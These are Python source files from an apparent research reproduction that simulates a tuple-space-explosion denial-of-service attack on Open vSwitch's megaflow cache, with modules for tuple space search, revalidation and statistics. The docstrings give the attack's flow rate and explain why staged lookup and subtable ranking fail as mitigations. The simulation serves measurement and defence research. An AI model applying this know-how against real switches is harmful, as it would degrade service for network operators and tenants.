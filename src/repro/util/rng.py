"""Deterministic randomness for reproducible experiments.

Every stochastic component (workload generators, packet field fuzzing,
cache eviction tie-breaks) draws from a :class:`DeterministicRng` seeded
explicitly, so an experiment id + seed fully determines its output.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from typing import TypeVar

T = TypeVar("T")

#: splitmix64 golden-ratio multiplier — the same mixing constant
#: :func:`repro.ovs.pmd.shard_seed` uses for shard streams
_GOLDEN = 0x9E3779B97F4A7C15
#: FNV-1a 64-bit parameters for folding label bytes
_FNV_OFFSET = 0xCBF29CE484222325
_FNV_PRIME = 0x100000001B3
_MASK64 = 0xFFFF_FFFF_FFFF_FFFF


def _label_value(label: str) -> int:
    """Deterministic 64-bit digest of a fork label (FNV-1a over UTF-8).

    Never the builtin ``hash()``: that is salted per process for
    strings (PYTHONHASHSEED), so fork-derived child seeds — and every
    stream drawn from them — would differ between two runs of the same
    experiment.
    """
    acc = _FNV_OFFSET
    for byte in label.encode("utf-8"):
        acc = ((acc ^ byte) * _FNV_PRIME) & _MASK64
    return acc


class DeterministicRng:
    """A thin, explicitly-seeded wrapper around :class:`random.Random`.

    The wrapper exists so that (a) no code in the library ever touches the
    global ``random`` state and (b) derived sub-streams can be forked with
    :meth:`fork` without the parent and child sequences interfering.
    """

    def __init__(self, seed: int = 0) -> None:
        self.seed = seed
        self._random = random.Random(seed)

    def fork(self, label: str) -> "DeterministicRng":
        """Return an independent child stream derived from a label.

        Forking by label (rather than drawing a child seed from the
        parent stream) keeps child streams stable when unrelated draws
        are added to the parent.  The derivation is pure arithmetic
        (FNV-1a over the label, splitmix-mixed with the seed) so the
        child seed is identical across processes and runs — the builtin
        ``hash()`` is per-process salted for strings and would make
        every fork-derived stream irreproducible.
        """
        child_seed = (
            _label_value(label) ^ ((self.seed * _GOLDEN) & _MASK64)
        ) & 0x7FFF_FFFF_FFFF_FFFF
        return DeterministicRng(child_seed)

    def randint(self, low: int, high: int) -> int:
        """Uniform integer in [low, high], inclusive on both ends."""
        return self._random.randint(low, high)

    def random(self) -> float:
        """Uniform float in [0, 1)."""
        return self._random.random()

    def uniform(self, low: float, high: float) -> float:
        """Uniform float in [low, high]."""
        return self._random.uniform(low, high)

    def expovariate(self, rate: float) -> float:
        """Exponential inter-arrival sample with the given rate."""
        return self._random.expovariate(rate)

    def choice(self, items: Sequence[T]) -> T:
        """Uniformly pick one element of a non-empty sequence."""
        return self._random.choice(items)

    def sample(self, items: Sequence[T], count: int) -> list[T]:
        """Sample ``count`` distinct elements."""
        return self._random.sample(items, count)

    def shuffle(self, items: list[T]) -> None:
        """Shuffle a list in place."""
        self._random.shuffle(items)

    def bits(self, width: int) -> int:
        """Return a uniformly random ``width``-bit integer."""
        return self._random.getrandbits(width) if width > 0 else 0
