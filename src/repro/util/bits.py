"""Bit-level helpers for fixed-width header fields.

All functions treat integers as *fixed-width bit vectors* whose most
significant bit is "bit 0", matching the way the paper (Fig. 2) and Open
vSwitch's prefix tries number header bits: the MSB of an IP address is
the first bit a longest-prefix-match examines.
"""

from __future__ import annotations


def ones(width: int) -> int:
    """Return a bit vector of ``width`` ones (an all-exact mask).

    >>> bin(ones(4))
    '0b1111'
    """
    if width < 0:
        raise ValueError(f"width must be non-negative, got {width}")
    return (1 << width) - 1


def mask_of_prefix(prefix_len: int, width: int) -> int:
    """Return a mask with the first ``prefix_len`` MSBs set.

    This is the CIDR-style prefix mask used for megaflow entries:
    ``mask_of_prefix(3, 8) == 0b11100000``.
    """
    if not 0 <= prefix_len <= width:
        raise ValueError(
            f"prefix_len must be in [0, {width}], got {prefix_len}"
        )
    return ones(prefix_len) << (width - prefix_len)


def bit_get(value: int, index: int, width: int) -> int:
    """Return bit ``index`` of ``value``, counting from the MSB (bit 0)."""
    _check_index(index, width)
    return (value >> (width - 1 - index)) & 1


def bit_set(value: int, index: int, width: int) -> int:
    """Return ``value`` with MSB-indexed bit ``index`` set to 1."""
    _check_index(index, width)
    return value | (1 << (width - 1 - index))


def bit_clear(value: int, index: int, width: int) -> int:
    """Return ``value`` with MSB-indexed bit ``index`` cleared to 0."""
    _check_index(index, width)
    return value & ~(1 << (width - 1 - index))


def bit_flip(value: int, index: int, width: int) -> int:
    """Return ``value`` with MSB-indexed bit ``index`` inverted."""
    _check_index(index, width)
    return value ^ (1 << (width - 1 - index))


def first_diff_bit(a: int, b: int, width: int) -> int | None:
    """Return the MSB-first index of the first bit where ``a`` and ``b``
    differ, or ``None`` when they are equal over ``width`` bits.

    This is the primitive behind megaflow un-wildcarding: the slow path
    only needs to examine a field up to (and including) the first
    diverging bit to prove a packet does *not* match a rule.
    """
    diff = (a ^ b) & ones(width)
    if diff == 0:
        return None
    return width - diff.bit_length()


def popcount(value: int) -> int:
    """Return the number of set bits (used for mask specificity)."""
    if value < 0:
        raise ValueError("popcount is defined for non-negative values")
    return value.bit_count()


def to_binary(value: int, width: int) -> str:
    """Render ``value`` as a ``width``-bit binary string (Fig. 2 style).

    >>> to_binary(0b1010, 8)
    '00001010'
    """
    if value < 0 or value > ones(width):
        raise ValueError(f"value {value} does not fit in {width} bits")
    return format(value, f"0{width}b")


def _check_index(index: int, width: int) -> None:
    if not 0 <= index < width:
        raise ValueError(f"bit index must be in [0, {width}), got {index}")
