"""Interval-grid cadence: when did a periodic task last become due?

Periodic maintenance across the model — revalidator sweeps, PMD
auto-lb passes, the spread attacker's re-probes, fleet detector rounds
— fires on a fixed grid anchored at its *own* previous firing, so the
number of firings is a function of simulated time, not of how often
the caller happened to poll (PR 4 fixed a cadence-drift bug caused by
hand-rolling exactly this).  The idiom lives here once.
"""

from __future__ import annotations


def advance_to_grid(last: float, now: float, interval: float) -> float:
    """The latest grid point ``last + k·interval`` (integer ``k ≥ 1``)
    that is ``<= now``.  Callers check ``now - last >= interval`` first
    — the task is due — then anchor their next window here, so a burst
    of polls (or a long gap) yields the same firing schedule as a
    perfectly regular caller."""
    return last + int((now - last) // interval) * interval


def advance_if_due(last: float, now: float, interval: float) -> float | None:
    """The due-check and grid advance as one call: ``None`` when the
    interval has not elapsed since ``last``, else the new grid anchor
    (:func:`advance_to_grid`).  Callers own the anchor attribute::

        anchor = advance_if_due(self.last_fire, now, self.interval)
        if anchor is None:
            return
        self.last_fire = anchor
        ...fire...
    """
    if now - last < interval:
        return None
    return advance_to_grid(last, now, interval)
