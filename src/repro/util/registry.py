"""String-keyed registries: the naming layer behind the Scenario API.

Every pluggable axis of an experiment — attack surface, datapath
profile, defense, classifier backend, named scenario — is a
:class:`Registry` mapping short names to objects, so scenarios are
constructible from names and dicts (CLI- and JSON-friendly) instead of
hand-wired imports.
"""

from __future__ import annotations

from typing import Callable, Generic, Iterator, TypeVar

T = TypeVar("T")


class UnknownNameError(KeyError):
    """A registry lookup for a name that was never registered.

    Subclasses :class:`KeyError` so legacy ``except KeyError`` call
    sites keep working; the message always lists the valid choices.
    """

    def __init__(self, kind: str, name: str, choices: list[str]) -> None:
        super().__init__(name)
        self.kind = kind
        self.name = name
        self.choices = choices

    def __str__(self) -> str:
        return f"unknown {self.kind} {self.name!r}; available: {self.choices}"


class Registry(Generic[T]):
    """An ordered name -> object mapping with self-describing errors.

    Registration order is preserved (experiments iterate surfaces in
    the order the paper presents them).
    """

    def __init__(self, kind: str) -> None:
        self.kind = kind
        self._items: dict[str, T] = {}

    def register(self, name: str, obj: T | None = None) -> T | Callable[[T], T]:
        """Register ``obj`` under ``name``; usable as a decorator when
        ``obj`` is omitted.  Re-registering a name is an error (shadowing
        a surface silently would corrupt experiment tables)."""
        if obj is None:
            def decorator(target: T) -> T:
                self.register(name, target)
                return target
            return decorator
        if name in self._items:
            raise ValueError(f"{self.kind} {name!r} already registered")
        self._items[name] = obj
        return obj

    def get(self, name: str) -> T:
        """Look up a name; unknown names raise :class:`UnknownNameError`
        listing every valid choice."""
        try:
            return self._items[name]
        except KeyError:
            raise UnknownNameError(self.kind, name, self.names()) from None

    def names(self) -> list[str]:
        """Registered names in registration order."""
        return list(self._items)

    def items(self) -> Iterator[tuple[str, T]]:
        """``(name, object)`` pairs in registration order."""
        return iter(self._items.items())

    def __contains__(self, name: object) -> bool:
        return name in self._items

    def __len__(self) -> int:
        return len(self._items)

    def __repr__(self) -> str:
        return f"Registry({self.kind}: {self.names()})"
