"""The revalidator: periodic eviction of idle datapath flows.

ovs-vswitchd's revalidator threads sweep the datapath roughly twice per
second, deleting flows idle longer than ``max-idle`` (10 s by default).
The attack must outpace this reaper: the covert stream refreshes each of
its megaflows at least once per idle window, which is precisely why the
paper's 1–2 Mbps stream suffices (8192 flows / 10 s ≈ 820 pps).
"""

from __future__ import annotations

from repro.ovs.megaflow import MegaflowCache
from repro.ovs.microflow import MicroflowCache
from repro.util.cadence import advance_if_due

DEFAULT_SWEEP_INTERVAL = 0.5


class Revalidator:
    """Sweeps idle megaflows and purges stale microflow references."""

    #: optional span recorder (``Telemetry.attach`` wires these three;
    #: class-level defaults keep the un-instrumented path branch-cheap)
    trace = None
    trace_node = ""
    trace_shard = -1

    def __init__(
        self,
        cache: MegaflowCache,
        microflow: MicroflowCache | None = None,
        sweep_interval: float = DEFAULT_SWEEP_INTERVAL,
        resort_every: int = 1,
    ) -> None:
        if sweep_interval <= 0:
            raise ValueError("sweep_interval must be positive")
        if resort_every < 1:
            raise ValueError("resort_every must be >= 1")
        self.cache = cache
        self.microflow = microflow
        self.sweep_interval = sweep_interval
        #: re-rank the TSS subtable order every Nth sweep (the
        #: configurable re-sort interval of ``scan_order="ranked"``;
        #: a no-op for other scan orders)
        self.resort_every = resort_every
        self.last_sweep = 0.0
        self.sweeps = 0
        self.evicted_total = 0

    def maybe_sweep(self, now: float) -> int:
        """Run a sweep if the interval has elapsed; returns evictions.

        ``last_sweep`` is aligned to the sweep-interval grid rather than
        set to ``now``: a long idle gap still yields one (catch-up)
        sweep, but the *cadence* — the sweep count over a span of
        simulated time, and with it the ranked ``resort_every``
        re-sort rhythm — depends only on simulated time, never on when
        callers happened to check.  (An off-grid ``now`` would otherwise
        phase-shift every subsequent sweep.)
        """
        anchor = advance_if_due(self.last_sweep, now, self.sweep_interval)
        if anchor is None:
            return 0
        evicted = self.sweep(now)  # sets last_sweep = now ...
        self.last_sweep = anchor   # ... which the grid anchor overrides
        if self.trace is not None:
            self.trace.record(
                "ovs.revalidator.sweep", now,
                node=self.trace_node, shard=self.trace_shard,
                evicted=evicted, sweeps=self.sweeps,
                megaflows=self.cache.entry_count,
            )
        return evicted

    def sweep(self, now: float) -> int:
        """Unconditionally evict idle megaflows (and clean the EMC)."""
        self.last_sweep = now
        self.sweeps += 1
        evicted = self.cache.expire_idle(now)
        self.evicted_total += evicted
        if evicted and self.microflow is not None:
            self.microflow.invalidate_dead()
        if self.sweeps % self.resort_every == 0:
            self.cache.resort_subtables()
        return evicted
