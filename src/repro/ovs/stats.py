"""Aggregated dataplane statistics for one switch."""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field


@dataclass
class SwitchStats:
    """Counters a real OVS exposes via ``ovs-appctl`` / ``dpctl``.

    The experiment harness samples these each tick; Fig. 3's right axis
    is ``masks`` over time, and the degradation tables derive from the
    scan counters.
    """

    packets: int = 0
    emc_hits: int = 0
    megaflow_hits: int = 0
    upcalls: int = 0
    drops: int = 0
    forwarded: int = 0
    upcalls_rejected: int = 0
    tuples_scanned: int = 0
    hash_probes: int = 0

    def record_scan(self, tuples_scanned: int, hash_probes: int) -> None:
        """Accumulate one TSS scan's cost."""
        self.tuples_scanned += tuples_scanned
        self.hash_probes += hash_probes

    @classmethod
    def merge(cls, *stats: "SwitchStats") -> "SwitchStats":
        """Sum counters across several stats objects into a fresh one.

        The aggregation point for multi-switch datapaths — the sharded
        per-PMD backend merges its shards' snapshots this way, and fleet
        runs can fold per-node stats the same way — so consumers never
        hand-sum fields (and silently miss new counters)."""
        merged = cls()
        for one in stats:
            for spec in dataclasses.fields(cls):
                setattr(
                    merged,
                    spec.name,
                    getattr(merged, spec.name) + getattr(one, spec.name),
                )
        return merged

    def scan_weighted_load(self, cycles_base: float | None = None,
                           cycles_probe: float | None = None) -> float:
        """Lookup- and scan-depth-weighted cycle estimate of the load
        this switch served: every packet pays the base lookup, every
        subtable visit one probe — the same weighting the PMD
        rebalancer applies to its per-bucket windows, here derivable
        from any stats snapshot (``bench_rebalance`` reports per-shard
        served load this way).  Defaults are the
        :mod:`~repro.perf.costmodel` calibration constants."""
        from repro.perf.costmodel import (
            DEFAULT_CYCLES_MEGAFLOW_BASE,
            DEFAULT_CYCLES_TUPLE_PROBE,
        )

        if cycles_base is None:
            cycles_base = DEFAULT_CYCLES_MEGAFLOW_BASE
        if cycles_probe is None:
            cycles_probe = DEFAULT_CYCLES_TUPLE_PROBE
        return self.packets * cycles_base + self.tuples_scanned * cycles_probe

    @property
    def emc_hit_rate(self) -> float:
        """Fraction of packets served by the exact-match cache."""
        return self.emc_hits / self.packets if self.packets else 0.0

    @property
    def avg_tuples_per_megaflow_lookup(self) -> float:
        """Mean subtables scanned per TSS lookup — the attack's lever."""
        lookups = self.megaflow_hits + self.upcalls
        return self.tuples_scanned / lookups if lookups else 0.0

    def snapshot(self) -> dict[str, float]:
        """A plain-dict copy for time-series recording."""
        return {
            "packets": self.packets,
            "emc_hits": self.emc_hits,
            "megaflow_hits": self.megaflow_hits,
            "upcalls": self.upcalls,
            "drops": self.drops,
            "forwarded": self.forwarded,
            "upcalls_rejected": self.upcalls_rejected,
            "tuples_scanned": self.tuples_scanned,
            "hash_probes": self.hash_probes,
            "emc_hit_rate": self.emc_hit_rate,
            "avg_tuples_per_megaflow_lookup": self.avg_tuples_per_megaflow_lookup,
        }

    def reset(self) -> None:
        """Zero every counter."""
        self.packets = 0
        self.emc_hits = 0
        self.megaflow_hits = 0
        self.upcalls = 0
        self.drops = 0
        self.forwarded = 0
        self.upcalls_rejected = 0
        self.tuples_scanned = 0
        self.hash_probes = 0
