"""``repro.ovs`` — a faithful model of the Open vSwitch dataplane.

The pipeline mirrors the fast-path/slow-path split the paper describes:

1. :class:`MicroflowCache` — an exact-match, set-associative first-level
   cache (the netdev datapath's EMC);
2. :class:`MegaflowCache` — the second-level wildcard cache built on
   :class:`TupleSpaceSearch`: one hash table per distinct wildcard mask,
   searched *sequentially* — the linear scan the attack exploits;
3. :class:`SlowPath` — full flow-table classification with megaflow
   generation (:func:`classify_with_wildcards`), the algorithm whose
   "wildcard as many bits as possible" strategy produces the
   non-overlapping entries of Fig. 2b;
4. :class:`OvsSwitch` — the façade gluing the layers together with
   statistics, idle expiry (:class:`Revalidator`) and flow limits.
"""

from repro.ovs.wildcarding import (
    WildcardingResult,
    classify_with_wildcards,
    prefix_cover_len,
)
from repro.ovs.megaflow import MegaflowCache, MegaflowEntry
from repro.ovs.tss import Subtable, TssLookupResult, TupleSpaceSearch
from repro.ovs.microflow import MicroflowCache
from repro.ovs.pmd import ShardedDatapath, rss_hash, shard_seed, shard_views
from repro.ovs.upcall import InstallContext, InstallRejected, SlowPath, UpcallResult
from repro.ovs.revalidator import Revalidator
from repro.ovs.switch import BatchResult, LookupPath, OvsSwitch, PacketResult
from repro.ovs.stats import SwitchStats

__all__ = [
    "InstallContext",
    "InstallRejected",
    "BatchResult",
    "LookupPath",
    "MegaflowCache",
    "MegaflowEntry",
    "MicroflowCache",
    "OvsSwitch",
    "PacketResult",
    "Revalidator",
    "ShardedDatapath",
    "SlowPath",
    "Subtable",
    "SwitchStats",
    "TssLookupResult",
    "TupleSpaceSearch",
    "UpcallResult",
    "WildcardingResult",
    "classify_with_wildcards",
    "prefix_cover_len",
    "rss_hash",
    "shard_seed",
    "shard_views",
]
