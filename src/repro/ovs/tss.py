"""Tuple Space Search — the megaflow cache's lookup structure.

"entries matching on the same header fields are collected into a hash in
which masked packet headers can be found fast. [...] even if hash lookup
is O(1), the TSS algorithm still has to iterate through all hashes
assigned to different masks, rendering TSS a costly linear search when
there are lots of masks."  — the paper, Section 2.

This module implements exactly that structure: a :class:`Subtable` per
distinct mask, holding a Python dict from masked key tuples to entries,
and a :class:`TupleSpaceSearch` that scans the subtables sequentially.
The scan cost (``tuples_scanned``, ``hash_probes``) is reported on every
lookup so the complexity attack is *measurable*, and because the scan is
a real linear search over real hash tables the wall-clock benchmarks in
``benchmarks/bench_tss_linear_scan.py`` reproduce the linear blow-up
directly.

The optional *staged lookup* models the OVS optimisation of the same
name: each subtable's mask is split into stages (metadata / L2 / L3 /
L4) and a per-stage index lets the scan abandon a subtable early.  It
reduces hash-probe work per subtable but does **not** reduce the number
of subtables visited — which is why it does not stop the attack (an
ablation benchmark shows this).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterator, Optional

from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey

#: default stage boundaries (field name prefixes per stage) mirroring
#: OVS's metadata / L2 / L3 / L4 staging
DEFAULT_STAGES: tuple[tuple[str, ...], ...] = (
    ("in_port",),
    ("eth_type", "eth_src", "eth_dst"),
    ("ip_src", "ip_dst", "ip_proto", "ip_tos"),
    ("tp_src", "tp_dst"),
)


@dataclass
class TssLookupResult:
    """One TSS lookup's outcome and its cost accounting."""

    entry: Optional[object]
    #: subtables visited before (and including) the hit, or all on miss
    tuples_scanned: int
    #: individual hash-table probes performed (≥1 per subtable visited
    #: without staging; possibly fewer aborts with staging)
    hash_probes: int

    @property
    def hit(self) -> bool:
        return self.entry is not None


class Subtable:
    """All megaflow entries sharing one wildcard mask."""

    __slots__ = (
        "masks", "entries", "hits", "created_seq",
        "_stage_index", "_stage_plan", "_stage_dirty",
    )

    def __init__(
        self,
        masks: tuple[int, ...],
        created_seq: int,
        stage_plan: tuple[tuple[int, ...], ...] | None = None,
    ) -> None:
        self.masks = masks
        self.entries: dict[tuple[int, ...], object] = {}
        self.hits = 0
        self.created_seq = created_seq
        self._stage_plan = stage_plan
        # per-stage set of partial masked keys, maintained incrementally
        # on insert and rebuilt lazily after removals; only allocated
        # when staged lookup is enabled
        self._stage_index: list[set[tuple[int, ...]]] | None = (
            [set() for _ in stage_plan] if stage_plan else None
        )
        self._stage_dirty = False

    def mask_key(self, key_values: tuple[int, ...]) -> tuple[int, ...]:
        """Mask a flow key's values down to this subtable's mask."""
        return tuple(v & m for v, m in zip(key_values, self.masks))

    def insert(self, masked_values: tuple[int, ...], entry: object) -> None:
        """Add or replace the entry stored under ``masked_values``."""
        self.entries[masked_values] = entry
        if (
            self._stage_index is not None
            and self._stage_plan is not None
            and not self._stage_dirty
        ):
            # while dirty, skip the incremental update: the pending
            # rebuild will cover this entry anyway
            for stage, indices in enumerate(self._stage_plan):
                partial = tuple(masked_values[i] for i in indices)
                self._stage_index[stage].add(partial)

    def remove(self, masked_values: tuple[int, ...]) -> None:
        """Remove an entry; stage indexes are rebuilt lazily on next use.

        Removal only marks the index dirty (a stale partial key can at
        worst cost a few extra probes), so bulk evictions — revalidator
        sweeps, tenant quarantine — never pay the O(entries × stages)
        rebuild per entry; the next staged lookup rebuilds once.
        """
        del self.entries[masked_values]
        if self._stage_index is not None:
            self._stage_dirty = True

    def _rebuild_stage_index(self) -> None:
        assert self._stage_index is not None and self._stage_plan is not None
        for stage, indices in enumerate(self._stage_plan):
            self._stage_index[stage] = {
                tuple(masked[i] for i in indices) for masked in self.entries
            }
        self._stage_dirty = False

    def lookup_staged(self, masked_values: tuple[int, ...]) -> tuple[object | None, int]:
        """Staged probe: returns ``(entry, probes_used)``; aborts at the
        first stage whose partial key has no entries."""
        if self._stage_index is None or self._stage_plan is None:
            entry = self.entries.get(masked_values)
            return entry, 1
        if self._stage_dirty:
            self._rebuild_stage_index()
        probes = 0
        for stage, indices in enumerate(self._stage_plan):
            probes += 1
            partial = tuple(masked_values[i] for i in indices)
            if partial not in self._stage_index[stage]:
                return None, probes
        return self.entries.get(masked_values), probes

    def __len__(self) -> int:
        return len(self.entries)

    def __repr__(self) -> str:
        return f"Subtable(mask={self.masks}, {len(self.entries)} entries, {self.hits} hits)"


class TupleSpaceSearch:
    """The sequential-scan tuple space: insertion-ordered subtables.

    ``scan_order`` controls how subtables are visited:

    * ``"insertion"`` (default) — the order masks were first created,
      matching the kernel datapath's mask array;
    * ``"hits"`` — most-hit subtables first, modelling the netdev
      datapath's periodic subtable re-sorting.  Exposed because it is a
      natural (insufficient) mitigation candidate: the attacker's covert
      stream also generates hits, so re-sorting does not save the victim.
    """

    def __init__(
        self,
        space: FieldSpace,
        staged: bool = False,
        scan_order: str = "insertion",
    ) -> None:
        if scan_order not in ("insertion", "hits"):
            raise ValueError(f"unknown scan_order {scan_order!r}")
        self.space = space
        self.staged = staged
        self.scan_order = scan_order
        self._subtables: dict[tuple[int, ...], Subtable] = {}
        self._next_seq = 0
        self._stage_plan = self._build_stage_plan() if staged else None
        # lookup statistics (cumulative)
        self.total_lookups = 0
        self.total_tuples_scanned = 0
        self.total_hash_probes = 0

    def _build_stage_plan(self) -> tuple[tuple[int, ...], ...]:
        """Map DEFAULT_STAGES onto this field space (skipping stages with
        no fields present)."""
        plan: list[tuple[int, ...]] = []
        covered: set[int] = set()
        for stage_fields in DEFAULT_STAGES:
            indices = tuple(
                self.space.index_of(name) for name in stage_fields if name in self.space
            )
            if indices:
                plan.append(indices)
                covered.update(indices)
        leftovers = tuple(i for i in range(len(self.space)) if i not in covered)
        if leftovers:
            plan.append(leftovers)
        return tuple(plan)

    # -- structure ---------------------------------------------------------

    @property
    def mask_count(self) -> int:
        """Number of distinct masks — the attack's blow-up target and the
        quantity on Fig. 3's right axis."""
        return len(self._subtables)

    @property
    def entry_count(self) -> int:
        """Total megaflow entries across all subtables."""
        return sum(len(subtable) for subtable in self._subtables.values())

    def subtables(self) -> list[Subtable]:
        """Subtables in the current scan order."""
        tables = list(self._subtables.values())
        if self.scan_order == "hits":
            tables.sort(key=lambda s: (-s.hits, s.created_seq))
        return tables

    def find_subtable(self, masks: tuple[int, ...]) -> Subtable | None:
        """The subtable for a mask, or ``None`` when absent."""
        return self._subtables.get(masks)

    def get_or_create_subtable(self, masks: tuple[int, ...]) -> Subtable:
        """The subtable for a mask, creating it on first use."""
        subtable = self._subtables.get(masks)
        if subtable is None:
            subtable = Subtable(masks, self._next_seq, self._stage_plan)
            self._next_seq += 1
            self._subtables[masks] = subtable
        return subtable

    def insert(self, masks: tuple[int, ...], masked_values: tuple[int, ...],
               entry: object) -> None:
        """Insert an entry under its mask's subtable."""
        self.get_or_create_subtable(masks).insert(masked_values, entry)

    def remove(self, masks: tuple[int, ...], masked_values: tuple[int, ...]) -> None:
        """Remove an entry; empty subtables disappear (as OVS destroys
        empty subtables, shrinking the scan)."""
        subtable = self._subtables.get(masks)
        if subtable is None:
            raise KeyError(f"no subtable for mask {masks}")
        subtable.remove(masked_values)
        if not subtable.entries:
            del self._subtables[masks]

    def clear(self) -> None:
        """Drop every subtable."""
        self._subtables.clear()

    # -- lookup ------------------------------------------------------------

    def lookup(self, key: FlowKey) -> TssLookupResult:
        """Sequentially scan subtables for the first matching entry.

        OVS guarantees megaflows are non-overlapping, so "first match"
        and "only match" coincide; the scan order merely affects cost.
        """
        key_values = key.values
        tuples_scanned = 0
        hash_probes = 0
        for subtable in self.subtables():
            tuples_scanned += 1
            masked = subtable.mask_key(key_values)
            if self.staged:
                entry, probes = subtable.lookup_staged(masked)
                hash_probes += probes
            else:
                entry = subtable.entries.get(masked)
                hash_probes += 1
            if entry is not None:
                subtable.hits += 1
                self._account(tuples_scanned, hash_probes)
                return TssLookupResult(entry, tuples_scanned, hash_probes)
        self._account(tuples_scanned, hash_probes)
        return TssLookupResult(None, tuples_scanned, hash_probes)

    def _account(self, tuples_scanned: int, hash_probes: int) -> None:
        self.total_lookups += 1
        self.total_tuples_scanned += tuples_scanned
        self.total_hash_probes += hash_probes

    def iter_entries(self) -> Iterator[tuple[tuple[int, ...], tuple[int, ...], object]]:
        """Iterate ``(masks, masked_values, entry)`` over the whole space."""
        for masks, subtable in self._subtables.items():
            for masked_values, entry in subtable.entries.items():
                yield masks, masked_values, entry

    def remove_if(self, predicate: Callable[[object], bool]) -> int:
        """Remove entries matching a predicate; returns the count."""
        doomed: list[tuple[tuple[int, ...], tuple[int, ...]]] = []
        for masks, masked_values, entry in self.iter_entries():
            if predicate(entry):
                doomed.append((masks, masked_values))
        for masks, masked_values in doomed:
            self.remove(masks, masked_values)
        return len(doomed)

    def __repr__(self) -> str:
        return (
            f"TupleSpaceSearch({self.mask_count} masks, {self.entry_count} entries, "
            f"staged={self.staged})"
        )
