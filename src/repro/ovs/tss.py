"""Tuple Space Search — the megaflow cache's lookup structure.

"entries matching on the same header fields are collected into a hash in
which masked packet headers can be found fast. [...] even if hash lookup
is O(1), the TSS algorithm still has to iterate through all hashes
assigned to different masks, rendering TSS a costly linear search when
there are lots of masks."  — the paper, Section 2.

This module implements exactly that structure: a :class:`Subtable` per
distinct mask, holding a Python dict from masked key tuples to entries,
and a :class:`TupleSpaceSearch` that scans the subtables sequentially.
The scan cost (``tuples_scanned``, ``hash_probes``) is reported on every
lookup so the complexity attack is *measurable*, and because the scan is
a real linear search over real hash tables the wall-clock benchmarks in
``benchmarks/bench_tss_linear_scan.py`` reproduce the linear blow-up
directly.

Two orthogonal hot-path optimisations model what real OVS does:

* **Packed keys** (``key_mode="packed"``, the default): the field space
  fixes a bit offset per field, every :class:`~repro.flow.key.FlowKey`
  caches one packed integer, and each subtable precomputes one packed
  mask integer — masking a key down to a subtable becomes a single
  ``packed & mask`` and the per-tuple hash tables key on ints.  The
  tuple-keyed dicts are still maintained as the checked reference
  (``key_mode="tuple"`` scans them instead; equivalence tests assert
  both paths agree probe for probe).

* **Subtable ranking** (``scan_order="ranked"``): subtables live in a
  pvector-style list that is periodically re-sorted by recent hit count
  (OVS's dpcls subtable ranking), either explicitly via :meth:`resort`
  — the revalidator sweep calls it — or automatically every
  ``resort_interval`` lookups.  Ranking makes *benign* heavy-tailed
  traffic cheap (hot subtables move to the front) but does **not** blunt
  the attack: the covert stream spreads hits uniformly across every
  subtable, so no ordering beats any other — the expected scan stays
  ``(n+1)/2`` (the ``experiments/ranking.py`` ablation measures both).

The optional *staged lookup* models the OVS optimisation of the same
name: each subtable's mask is split into stages (metadata / L2 / L3 /
L4) and a per-stage index lets the scan abandon a subtable early.  It
reduces hash-probe work per subtable but does **not** reduce the number
of subtables visited — which is why it does not stop the attack (an
ablation benchmark shows this).  Staged lookups use the tuple path (the
stage indexes key on partial tuples).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterator, Optional, Sequence

from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey

#: default stage boundaries (field name prefixes per stage) mirroring
#: OVS's metadata / L2 / L3 / L4 staging
DEFAULT_STAGES: tuple[tuple[str, ...], ...] = (
    ("in_port",),
    ("eth_type", "eth_src", "eth_dst"),
    ("ip_src", "ip_dst", "ip_proto", "ip_tos"),
    ("tp_src", "tp_dst"),
)

#: valid ``TupleSpaceSearch.scan_order`` values
SCAN_ORDERS = ("insertion", "hits", "ranked")

#: valid ``TupleSpaceSearch.key_mode`` values
KEY_MODES = ("packed", "tuple")


@dataclass(slots=True)
class TssLookupResult:
    """One TSS lookup's outcome and its cost accounting."""

    entry: Optional[object]
    #: subtables visited before (and including) the hit, or all on miss
    tuples_scanned: int
    #: individual hash-table probes performed (≥1 per subtable visited
    #: without staging; possibly fewer aborts with staging)
    hash_probes: int

    @property
    def hit(self) -> bool:
        return self.entry is not None


class Subtable:
    """All megaflow entries sharing one wildcard mask."""

    __slots__ = (
        "masks", "entries", "hits", "created_seq",
        "packed_mask", "entries_packed", "rank_hits", "dead",
        "_space", "_stage_index", "_stage_plan", "_stage_dirty",
    )

    def __init__(
        self,
        masks: tuple[int, ...],
        created_seq: int,
        stage_plan: tuple[tuple[int, ...], ...] | None = None,
        space: FieldSpace | None = None,
    ) -> None:
        self.masks = masks
        self.entries: dict[tuple[int, ...], object] = {}
        self.hits = 0
        #: hits since the last ranked re-sort (exponentially decayed)
        self.rank_hits = 0
        self.created_seq = created_seq
        #: True once destroyed — lets the ranked scan list compact lazily
        self.dead = False
        self._space = space
        # packed fast path: one precomputed mask int plus an int-keyed
        # mirror of `entries`, only maintained when a space is given
        self.packed_mask: int | None = space.pack(masks) if space else None
        self.entries_packed: dict[int, object] = {}
        self._stage_plan = stage_plan
        # per-stage set of partial masked keys, maintained incrementally
        # on insert and rebuilt lazily after removals; only allocated
        # when staged lookup is enabled
        self._stage_index: list[set[tuple[int, ...]]] | None = (
            [set() for _ in stage_plan] if stage_plan else None
        )
        self._stage_dirty = False

    def mask_key(self, key_values: tuple[int, ...]) -> tuple[int, ...]:
        """Mask a flow key's values down to this subtable's mask."""
        return tuple(v & m for v, m in zip(key_values, self.masks))

    def credit_hit(self) -> None:
        """Record one lookup hit (cumulative + ranking counters)."""
        self.hits += 1
        self.rank_hits += 1

    def credit_hits(self, n: int) -> None:
        """Record ``n`` lookup hits at once — the batched consume loops
        group consecutive hits on the same subtable and credit them in
        one call.  Integer adds, so exactly equivalent to ``n``
        :meth:`credit_hit` calls (``rank_hits`` may be a float after a
        ranked re-sort halving; adding an int keeps it exact)."""
        self.hits += n
        self.rank_hits += n

    def insert(self, masked_values: tuple[int, ...], entry: object) -> None:
        """Add or replace the entry stored under ``masked_values``."""
        self.entries[masked_values] = entry
        if self._space is not None:
            self.entries_packed[self._space.pack(masked_values)] = entry
        if (
            self._stage_index is not None
            and self._stage_plan is not None
            and not self._stage_dirty
        ):
            # while dirty, skip the incremental update: the pending
            # rebuild will cover this entry anyway
            for stage, indices in enumerate(self._stage_plan):
                partial = tuple(masked_values[i] for i in indices)
                self._stage_index[stage].add(partial)

